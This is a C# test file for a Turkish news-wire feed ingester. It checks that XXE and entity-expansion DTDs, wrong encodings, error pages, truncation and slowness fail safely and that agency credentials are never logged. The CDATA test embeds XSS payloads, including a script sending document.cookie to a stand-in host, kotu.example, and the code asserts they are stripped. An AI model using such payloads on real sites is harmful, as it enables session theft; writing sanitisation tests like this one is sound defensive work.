using System.Diagnostics;
using System.Text;
using Manset.Data;
using Manset.Tests.Support;
using Microsoft.AspNetCore.Http;
using Microsoft.EntityFrameworkCore;

namespace Manset.Tests.Wires;

/// <summary>
/// Feeds are hostile until read: DTDs (XXE, entity expansion), wrong encodings, words or HTML instead of XML,
/// truncated or oversized answers, slow agencies, scripts in CDATA. Each gives a clear error for the source and
/// harms nothing already ingested; credentials never show, not even when the agency echoes them.
/// </summary>
public class HostileFeedTests
{
    const string Password = "Gizli-Parola-2026!";
    const string UserCode = "KOD-7781";

    static Task<WireTestSite> SiteAsync(string path = "/iha/rss", string type = "iha", Action<Dictionary<string, string?>>? settings = null) =>
        WireTestSite.StartAsync((agency, s) => WireTestSite.Source(s, 0, "kaynak", type, agency.Url(path), "draft", "gundem",
            ("UserCode", UserCode), ("UserName", "manset_abone"), ("Password", Password)), settings: settings);

    async Task<(string Output, TimeSpan Took)> PullTimedAsync(WireTestSite site)
    {
        var watch = Stopwatch.StartNew();
        var (code, output, _) = await site.PullAsync();
        watch.Stop();
        Assert.Equal(0, code);
        return (output, watch.Elapsed);
    }

    [Theory]
    [InlineData("xxe")]
    [InlineData("expansion")]
    public async Task A_DTD_is_refused_within_a_second_without_reading_any_file(string kind)
    {
        await using var site = await SiteAsync();
        site.Agency.Xml("/iha/rss", kind == "xxe" ? Feeds.Xxe : Feeds.EntityExpansion());
        var (output, took) = await PullTimedAsync(site);
        Assert.True(took < TimeSpan.FromSeconds(1), $"took {took.TotalMilliseconds:0} ms");
        Assert.Contains("kaynak: HATA: Akış bir DTD (DOCTYPE) içeriyor", output, StringComparison.Ordinal);
        Assert.Equal("new=0 updated=0 unchanged=0 failed=1", WireTestSite.Summary(output));
        Assert.Equal(0, await site.QueryAsync(d => d.WireItems.CountAsync()));
        var state = await site.QueryAsync(d => d.WireSourceStates.AsNoTracking().SingleAsync());
        Assert.Contains("DTD", state.LastError, StringComparison.Ordinal);
        Assert.Equal(1, state.ConsecutiveFailures);
        Assert.DoesNotContain("root:", output + state.LastError + site.Logs.All, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("windows-1254", "windows-1254", null)]
    [InlineData("ISO-8859-9", "iso-8859-9", null)]
    [InlineData(null, "windows-1254", "windows-1254")]
    [InlineData("utf-8", "windows-1254", null)]
    public async Task Turkish_letters_survive_whatever_the_feed_says_its_encoding_is(string? declared, string actual, string? header)
    {
        await using var site = await SiteAsync("/rss", "rss");
        var xml = (declared is null ? "<?xml version=\"1.0\"?>" : $"<?xml version=\"1.0\" encoding=\"{declared}\"?>")
            + "<rss version=\"2.0\"><channel><title>Yerel Gazete</title><item><guid>enc-1</guid><title>Iğdır'da çiğ süt üreticileri ödüllendirildi</title>"
            + "<description>Şırnak, Ağrı ve Iğdır'dan gelen üreticiler; ÇĞİÖŞÜ çğıöşü harflerini sevdi.</description><pubDate>Sun, 29 Nov 2026 10:00:00 +0300</pubDate></item></channel></rss>";
        System.Text.Encoding.RegisterProvider(System.Text.CodePagesEncodingProvider.Instance);
        site.Agency.Bytes("/rss", System.Text.Encoding.GetEncoding(actual).GetBytes(xml), header is null ? "application/rss+xml" : $"application/rss+xml; charset={header}");
        var (output, _) = await PullTimedAsync(site);
        Assert.Equal("new=1 updated=0 unchanged=0 failed=0", WireTestSite.Summary(output));
        var item = await site.ItemAsync("enc-1");
        Assert.Equal("Iğdır'da çiğ süt üreticileri ödüllendirildi", item.Title);
        Assert.Equal("Şırnak, Ağrı ve Iğdır'dan gelen üreticiler; ÇĞİÖŞÜ çğıöşü harflerini sevdi.", item.Spot);
        Assert.Equal("Yerel Gazete", item.Credit);
    }

    [Fact]
    public async Task The_agency_password_appears_nowhere_even_when_the_agency_echoes_it()
    {
        await using var site = await SiteAsync(settings: s => s["Logging:LogLevel:Default"] = "Trace");
        // İHA's answer when asked too soon: Turkish words, with the request's credentials echoed back.
        site.Agency.Text("/iha/rss", $"İki rss isteği arasındaki süre en az 30 saniye olmalıdır. UserCode={UserCode}&UserName=manset_abone&UserPassword={Password}");
        var (output, _) = await PullTimedAsync(site);
        Assert.Contains("kaynak: HATA: Ajans istekleri çok sık buldu", output, StringComparison.Ordinal);
        var state = await site.QueryAsync(d => d.WireSourceStates.AsNoTracking().SingleAsync());
        Assert.Contains("İki rss isteği arasındaki süre", state.LastError, StringComparison.Ordinal);
        // Backed off: the next pull waits longer than the interval.
        Assert.True(state.NextPullAt > WireTestSite.Start.AddSeconds(31 + 60), $"next pull at {state.NextPullAt}");

        // A transport failure with the credentials in the address (nothing listens there).
        await using (var closed = await SiteAsync(settings: s => s["Manset:Wires:Sources:0:Url"] = "http://127.0.0.1:9/iha/rss"))
        {
            var failed = await closed.PullAsync();
            Assert.Contains("Ajansa bağlanılamadı", failed.Output, StringComparison.Ordinal);
            Assert.DoesNotContain(Password, failed.Output + failed.Error + closed.Logs.All, StringComparison.Ordinal);
        }

        using var admin = await site.App.NewsroomClientAsync("yonetici");
        var desk = await (await admin.GetAsync("/yonetim/ajans")).Content.ReadAsStringAsync();
        Assert.Contains("İki rss isteği", desk, StringComparison.Ordinal);
        foreach (var secret in new[] { Password, Uri.EscapeDataString(Password), UserCode, "manset_abone" })
        {
            Assert.DoesNotContain(secret, output, StringComparison.Ordinal);
            Assert.DoesNotContain(secret, state.LastError, StringComparison.Ordinal);
            Assert.DoesNotContain(secret, desk, StringComparison.Ordinal);
            Assert.DoesNotContain(secret, site.Logs.All, StringComparison.Ordinal);
        }
        Assert.NotEmpty(site.Logs.Lines); // the capture did see the pull's log lines
    }

    [Fact]
    public async Task Words_pages_truncation_size_and_slowness_are_clear_errors_and_harm_nothing_ingested()
    {
        await using var site = await SiteAsync(settings: s =>
        {
            s["Manset:Wires:MaxFeedMegabytes"] = "1";
            // Long enough for a starved CI machine's first request, short enough for the slow agency below.
            s["Manset:Wires:TimeoutSeconds"] = "5";
        });
        site.Agency.Xml("/iha/rss", Feeds.Iha(Feeds.Tramvay("x") with { Photo = null }, Feeds.Mac()));
        Assert.Equal("new=2 updated=0 unchanged=0 failed=0", WireTestSite.Summary((await site.PullAsync()).Output));
        var before = await site.QueryAsync(d => d.WireItems.AsNoTracking().OrderBy(i => i.Id).Select(i => new { i.AgencyId, i.Title, i.Body, i.ContentHash }).ToListAsync());

        var cases = new (Action Serve, string Expected)[]
        {
            (() => site.Agency.Text("/iha/rss", "<!DOCTYPE html><html><head><title>502</title><script>alert(1)</script></head><body><h1>502 Bad Gateway</h1></body></html>", 502, "text/html"),
                "Ajans HTTP 502 döndürdü: “502 Bad Gateway”"),
            (() => site.Agency.Text("/iha/rss", "<html><body><p>Bakım çalışması nedeniyle hizmet veremiyoruz.</p></body></html>", 200, "text/html"),
                "Ajans XML yerine bir metin döndürdü: “Bakım çalışması nedeniyle hizmet veremiyoruz.”"),
            (() => site.Agency.Xml("/iha/rss", Feeds.Iha(Feeds.Tramvay("x") with { Photo = null })[..300]), "Akış geçerli XML değil"),
            (() => site.Agency.Text("/iha/rss", ""), "Ajans boş bir yanıt döndürdü."),
            (() => site.Agency.Xml("/iha/rss", Feeds.Iha(Enumerable.Range(0, 900).Select(n => Feeds.Mac() with { Code = $"BUYUK{n}", Description = new string('x', 1500) }).ToArray())),
                "Yanıt boyut sınırını (1 MB) aşıyor"),
            (() => site.Agency.Route("/iha/rss", async context => { await Task.Delay(TimeSpan.FromSeconds(60), context.RequestAborted); }), "Ajans zamanında yanıt vermedi"),
            (() => site.Agency.Route("/iha/rss", context => { context.Response.StatusCode = 429; context.Response.Headers.RetryAfter = "120"; return Task.CompletedTask; }),
                "Ajans çok sık istek yapıldığını bildirdi (HTTP 429"),
        };
        var failures = 0;
        foreach (var (serve, expected) in cases)
        {
            serve();
            var (code, output, _) = await site.PullAsync();
            Assert.Equal(0, code);
            Assert.Contains("kaynak: HATA: " + expected, output, StringComparison.Ordinal);
            Assert.True(WireTestSite.Summary(output) == "new=0 updated=0 unchanged=0 failed=1", output);
            failures++;
            var state = await site.QueryAsync(d => d.WireSourceStates.AsNoTracking().SingleAsync());
            Assert.Equal(failures, state.ConsecutiveFailures);
            Assert.DoesNotContain("alert", state.LastError, StringComparison.Ordinal);
        }
        var after = await site.QueryAsync(d => d.WireItems.AsNoTracking().OrderBy(i => i.Id).Select(i => new { i.AgencyId, i.Title, i.Body, i.ContentHash }).ToListAsync());
        Assert.Equal(before, after);
        Assert.Contains(site.Logs.Lines, l => l.Contains("Ajans kaynak çekilemedi", StringComparison.Ordinal));

        // Recovery: a good answer clears the failure count.
        site.Agency.Xml("/iha/rss", Feeds.Iha(Feeds.Tramvay("x") with { Photo = null }, Feeds.Mac()));
        var recovered = (await site.PullAsync()).Output;
        Assert.True(WireTestSite.Summary(recovered) == "new=0 updated=0 unchanged=2 failed=0", recovered);
        Assert.Equal(0, (await site.QueryAsync(d => d.WireSourceStates.AsNoTracking().SingleAsync())).ConsecutiveFailures);
    }

    [Fact]
    public async Task Scripts_and_styles_inside_CDATA_never_reach_the_text()
    {
        await using var site = await SiteAsync();
        site.Agency.Xml("/iha/rss", Feeds.Iha(Feeds.Mac() with
        {
            Description = "Maç özeti<script>document.location='https://kotu.example/?c='+document.cookie</script><br/>"
                + "<style>body{display:none}</style>İlk yarı golsüz bitti.<br/><img src=x onerror=alert(1)>İkinci yarıda iki gol geldi.<br/><a href=\"javascript:alert(2)\">tıkla</a>",
        }));
        Assert.Equal("new=1 updated=0 unchanged=0 failed=0", WireTestSite.Summary((await site.PullAsync()).Output));
        var item = await site.ItemAsync("20261129AW000103");
        Assert.Equal("Maç özeti", item.Spot);
        Assert.Equal("<p>İlk yarı golsüz bitti.</p><p>İkinci yarıda iki gol geldi.</p><p>tıkla</p>", item.Body);
    }

    [Fact]
    public async Task Items_that_cannot_be_read_are_counted_and_the_rest_are_ingested()
    {
        await using var site = await SiteAsync();
        var feed = Feeds.Iha(Feeds.Tramvay("x") with { Photo = null }, Feeds.Mac() with { Code = "" }, Feeds.Deprem("x") with { Photo = null, Title = "  " });
        site.Agency.Xml("/iha/rss", feed);
        var (code, output, _) = await site.PullAsync();
        Assert.Equal(0, code);
        Assert.Equal("new=1 updated=0 unchanged=0 failed=2", WireTestSite.Summary(output));
        var state = await site.QueryAsync(d => d.WireSourceStates.AsNoTracking().SingleAsync());
        Assert.Equal(0, state.ConsecutiveFailures);
        Assert.Equal(2, state.LastFailed);
        Assert.Contains("HaberKodu olmayan", state.LastError, StringComparison.Ordinal);
    }
}
